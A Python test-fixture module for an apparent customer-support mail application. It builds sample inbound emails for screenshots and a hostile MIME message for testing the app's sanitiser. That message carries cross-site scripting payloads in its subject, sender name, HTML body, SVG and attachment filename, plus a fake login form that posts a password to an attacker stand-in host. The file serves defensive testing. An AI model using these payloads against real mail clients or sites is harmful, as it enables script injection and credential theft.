"""Test data for the agent workspace and its screenshots: a morning's worth of customer mail in the conftest project
(templates, ticket types), one HTML message that went through the real intake path, and hostile mail.

Screenshots are written to docs/screenshots/ only with POSTDESK_SCREENSHOTS=1 (so test runs leave the tree alone);
otherwise they go to a temporary directory, which still proves the page renders."""

from __future__ import annotations

import datetime as dt
import os
import tempfile
from pathlib import Path

from postdesk.core import clock

DOCS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"

CUSTOMER_HTML = """<div style="font-family:Georgia,serif;font-size:15px">
<p>Hello,</p>
<p>I ordered a <b>Kettle Pro 2</b> on 18 November (order <b>#48213</b>) and it still has not arrived.
The tracking page has said <i>"in transit"</i> for six days now.</p>
<table style="border-collapse:collapse;margin:12px 0" border="1" cellpadding="6">
<tr><th align="left">Order</th><td>#48213</td></tr>
<tr><th align="left">Item</th><td>Kettle Pro 2, brushed steel</td></tr>
<tr><th align="left">Paid</th><td>89.00 EUR</td></tr>
</table>
<p>Could you tell me where it is, or send a new one?</p>
<p><img src="https://tracker.example.net/pixel.gif" width="1" height="1" alt="">Kind regards,<br>Grace Hopper</p>
</div>"""


def save(page, name: str, *, locator=None) -> Path:
    """A PNG of the page (or of one element): docs/screenshots/<name>.png with POSTDESK_SCREENSHOTS=1."""
    if os.environ.get("POSTDESK_SCREENSHOTS") == "1":
        DOCS.mkdir(parents=True, exist_ok=True)
        path = DOCS / f"{name}.png"
    else:
        path = Path(tempfile.mkdtemp(prefix="postdesk-screens-")) / f"{name}.png"
    (locator or page).screenshot(path=str(path))
    return path


def workspace_setup(project):
    """Ticket types and templates (one visible to agents with a CC and a BCC, one hidden from agents)."""
    from postdesk.projects import services

    services.upsert_ticket_type(project, "Complaint", "COMPLAINT")
    services.upsert_ticket_type(project, "Delivery question", "DELIVERY")
    services.upsert_template(
        project,
        "Order update",
        {
            "subject": "Your order: {{ subject }}",
            "body": "Dear {{ name }},\n\nWe have found your parcel and it is on its way again.\n\nBest regards,\n"
            "{{ agent }}, Acme Care",
            "cc": ["logistics@acme.test"],
            "bcc": ["archive@acme.test"],
        },
    )
    services.upsert_template(
        project, "Internal escalation", {"subject": "Escalation", "body": "x", "visible_to_agents": False}
    )


def morning_mail(project) -> list:
    """A few new emails in alice's queues (English and the default queue) and one in Magyar (bob's only)."""
    from postdesk.emails.models import Email
    from postdesk.testing.factories import inbound_email

    start = clock.now() - dt.timedelta(hours=2)
    english = project.queues.get(name="English")
    magyar = project.queues.get(name="Magyar")
    rows = [
        ("Refund for a duplicate charge", "Alan Turing", "alan@example.org", english, "en", 35),
        (
            "Rechnung doppelt erhalten",
            "Lena Müller",
            "lena.mueller@example.de",
            project.default_queue,
            "de",
            48,
        ),
        ("Can't log in to my account", "Ada Lovelace", "ada@example.com", english, "en", 61),
        ("Számla másolat kérése", "Kovács Anna", "anna.kovacs@example.hu", magyar, "hu", 70),
        ("Warranty for a broken lid", "Edsger Dijkstra", "edsger@example.nl", english, "en", 84),
    ]
    out = []
    for subject, name, sender, queue, language, minutes in rows:
        email = inbound_email(
            project,
            subject=subject,
            sender=sender,
            queue=queue,
            language=language,
            text=f"Hello,\n\n{subject}.\n\nThanks,\n{name}",
            date=start + dt.timedelta(minutes=minutes),
        )
        Email.objects.filter(pk=email.pk).update(from_name=name)
        out.append(email)
    return out


def customer_email(forwarding, **kwargs):
    """An HTML message with a remote tracking image, received through the real path (parsing, sanitising,
    language detection, routing to the English queue)."""
    from postdesk.testing.factories import raw_message, receive

    raw = raw_message(
        subject=kwargs.pop("subject", "Order #48213 has not arrived"),
        sender="grace@example.com",
        name="Grace Hopper",
        body="Hello, I ordered a Kettle Pro 2 on 18 November (order #48213) and it still has not arrived. "
        "The tracking page has said in transit for six days now. Could you tell me where it is? Grace Hopper",
        html=CUSTOMER_HTML,
        **kwargs,
    )
    return receive(forwarding, raw, mail_from="grace@example.com")


# Hostile mail ---------------------------------------------------------------------------------------------------------

HOSTILE_SUBJECT = '<script>alert("subject")</script><img src=x onerror=alert("subject-img")>'
HOSTILE_NAME = '<img src=x onerror=alert("name")>'
HOSTILE_FILENAME = '<img src=x onerror=alert("file")>.html'
HOSTILE_HTML = """<p>Dear support, <b>please</b> look at this.</p>
<script>alert("script")</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">click me</a>
<svg onload="alert('svg')"><circle r="10"/></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<div onmouseover="alert('hover')" style="background:url(https://evil.example.net/bg.png)">hover me</div>
<img src="https://evil.example.net/track.png" alt="tracker">
<form action="https://evil.example.net/steal"><input name="password"><button>Log in</button></form>
<object data="https://evil.example.net/x.swf"></object>
<p>hostile-marker-words</p>"""
# A 1x1 PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201e2a43a6b0000000049454e44ae426082"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg-file\')"><script>alert(1)</script></svg>'


def hostile_raw() -> bytes:
    """A message whose subject, display name, HTML and attachment names all try to run script or load remote content,
    with an inline cid: PNG, an inline cid: SVG, and an HTML attachment."""
    import base64
    from email.header import Header

    def b64(data: bytes) -> str:
        return base64.encodebytes(data).decode().replace("\n", "\r\n")

    html = HOSTILE_HTML + '<p><img src="cid:logo@x" alt="logo"><img src="cid:vector@x" alt="vector"></p>'
    lines = [
        f"From: {Header(HOSTILE_NAME, 'utf-8').encode()} <mallory@example.com>",
        "To: support@acme.test",
        f"Subject: {Header(HOSTILE_SUBJECT, 'utf-8').encode()}",
        "Message-ID: <hostile-1@example.com>",
        "Date: Thu, 26 Nov 2026 10:00:00 +0000",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="mixed"',
        "",
        "--mixed",
        'Content-Type: multipart/related; boundary="related"',
        "",
        "--related",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        b64(html.encode()),
        "--related",
        "Content-Type: image/png",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <logo@x>",
        'Content-Disposition: inline; filename="logo.png"',
        "",
        b64(PNG),
        "--related",
        "Content-Type: image/svg+xml",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <vector@x>",
        'Content-Disposition: inline; filename="vector.svg"',
        "",
        b64(SVG),
        "--related--",
        "--mixed",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        f"Content-Disposition: attachment; filename*=utf-8''{_pct(HOSTILE_FILENAME)}",
        "",
        b64(b"<script>alert('attachment')</script>"),
        "--mixed--",
        "",
    ]
    return "\r\n".join(lines).encode()


def _pct(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")
